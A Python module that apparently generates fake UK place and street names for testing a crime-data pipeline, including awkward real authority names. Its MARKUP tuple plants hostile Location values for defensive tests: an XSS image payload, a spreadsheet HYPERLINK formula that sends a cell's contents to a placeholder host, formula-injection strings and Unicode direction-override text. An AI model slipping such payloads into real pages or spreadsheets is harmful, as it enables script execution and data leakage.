"""Invented names of places and streets, and the few real forms of names that trip parsers.

Read by territory and geography.
"""

from __future__ import annotations

import numpy as np

_STEMS = (
    "Ash", "Brax", "Carl", "Dun", "Elm", "Farn", "Glen", "Hart", "Ing", "Kes", "Lang", "Marl", "Nether", "Ox",
    "Pem", "Quar", "Rush", "Sal", "Tun", "Wick", "Yar", "Brem", "Cold", "Dray", "Fen", "Gold", "Hob", "Lyn", "Mose",
    "Pol", "Ruth", "Stan", "Thorn", "Ulf", "Wen",
)  # fmt: skip
_ENDINGS = (
    "ford", "ton", "ley", "ham", "bury", "field", "thorpe", "mouth", "pool", "wich", "dale", "chester", "stoke",
    "bridge", "worth", "hurst", "combe", "stead", "well", "minster",
)  # fmt: skip
_WELSH_STEMS = (
    "Llan", "Aber", "Pont", "Caer", "Tre", "Pen", "Cwm", "Bryn", "Rhyd", "Nant",
)  # fmt: skip
_WELSH_ENDINGS = (
    "wern", "goch", "fawr", "mawddwy", "isel", "uchaf", "newydd", "deri", "afon", "garreg",
)  # fmt: skip
_ROADS = (
    "Road", "Street", "Close", "Avenue", "Lane", "Drive", "Way", "Court", "Gardens", "Grove", "Crescent", "Place",
    "Terrace", "Walk",
)  # fmt: skip
_FIRSTS = (
    "High", "Church", "Park", "Station", "Victoria", "Green", "Mill", "King", "Queen", "School", "London", "West",
    "Manor", "Grange", "Albert", "Elm", "Oak", "Beech", "North", "South", "Chapel", "Orchard", "Meadow", "Bridge",
    "Castle", "Spring",
)  # fmt: skip
_WELSH_ROADS = ("Heol", "Ffordd", "Stryd", "Clôs", "Maes", "Rhodfa", "Lôn")
_WELSH_NAMES = ("y Bryn", "Tŷ Gwyn", "y Môr", "Hanratté", "Siôn", "yr Eglwys", "Pantŵn", "y Dderwen", "Llŷn", "y Felin")
PLACES = (
    "Supermarket",
    "Parking Area",
    "Shopping Area",
    "Petrol Station",
    "Sports/Recreation Area",
    "Nightclub",
    "Hospital",
    "Further/Higher Educational Building",
    "Pedestrian Subway",
    "Bus/Coach Station",
    "Park/Open Space",
)
_ASCII = str.maketrans("ôŷéŵ", "oyew")

# force → names as the ONS writes them; the archive's own LSOA names shorten `Bristol, City of` to `Bristol`.
ODD_NAMES: dict[str, tuple[str, ...]] = {
    "avon-and-somerset": ("Bristol, City of",),
    "dorset": ("Bournemouth, Christchurch and Poole",),
    "humberside": ("Kingston upon Hull, City of",),
    "merseyside": ("St. Helens",),
    "norfolk": ("King's Lynn and West Norfolk",),
    "northumbria": ("Newcastle upon Tyne",),
    "south-wales": ("Rhondda Cynon Taf",),
    "staffordshire": ("Stoke-on-Trent",),
    "west-mercia": ("Herefordshire, County of",),
}
# force → (a district of today, the abolished ones that it was made of)
ABOLISHED: dict[str, tuple[str, tuple[str, ...]]] = {
    "avon-and-somerset": ("Somerset", ("Mendip", "Sedgemoor", "South Somerset")),
    "cumbria": ("Cumberland", ("Allerdale", "Copeland")),
    "north-yorkshire": ("North Yorkshire", ("Craven", "Ryedale", "Selby")),
    "northamptonshire": ("North Northamptonshire", ("Corby", "Kettering")),
}
# What the `Location` of a planted row says: each would do harm in a page, a spreadsheet or a log.
MARKUP: tuple[str, ...] = (
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://example.invalid/?x="&A1,"On or near")',
    "+1+1",
    "@SUM(1+1)*cmd",
    "On or near <b>High Street</b>",
)
MARKUP_UTF8: tuple[str, ...] = (*MARKUP, "On or near \u202eteertS hgiH\u202c", "On or near \u200fMill Lane")


def ascii_of(name: str) -> str:
    """The name as files up to June 2022 have it."""
    return name.translate(_ASCII)


def stem_of(authority: str) -> str:
    """The local authority as LSOA names call it: without `, City of` and `, County of`."""
    return authority.removesuffix(", City of").removesuffix(", County of")


def towns(chance: np.random.Generator, taken: set[str], welsh: bool, count: int) -> list[str]:
    """`count` new names of districts, none of them in `taken`, which grows by them."""
    stems, endings = (_WELSH_STEMS, _WELSH_ENDINGS) if welsh else (_STEMS, _ENDINGS)
    found: list[str] = []
    while len(found) < count:
        drawn = chance.integers(0, 1 << 20, 4)
        name = stems[drawn[0] % len(stems)] + endings[drawn[1] % len(endings)]
        if drawn[2] % 6 == 0 or len(taken) > 150:
            name = f"{('North', 'South', 'East', 'West', 'Mid', 'Vale of')[drawn[3] % 6]} {name}"
        if name not in taken:
            taken.add(name)
            found.append(name)
    return found


def streets(chance: np.random.Generator, welsh: bool, count: int, blanks: bool) -> list[str]:
    """(count,) `On or near …`, some of them kinds of place, some without any name where `blanks` are wanted."""
    drawn = chance.integers(0, 1 << 20, (count, 4)).tolist()
    return ["On or near " + _street(numbers, welsh, blanks) for numbers in drawn]


def _street(numbers: list[int], welsh: bool, blanks: bool) -> str:
    kind, first, second, third = numbers
    if kind % 64 == 0 and blanks:
        return ""
    if kind % 6 == 0:
        return PLACES[first % len(PLACES)]
    if welsh and kind % 5 < 2:
        return f"{_WELSH_ROADS[first % len(_WELSH_ROADS)]} {_WELSH_NAMES[second % len(_WELSH_NAMES)]}"
    name = _FIRSTS[first % len(_FIRSTS)] if kind % 3 == 0 else _STEMS[first % len(_STEMS)] + _ENDINGS[second % 20]
    return f"{name} {_ROADS[third % len(_ROADS)]}"
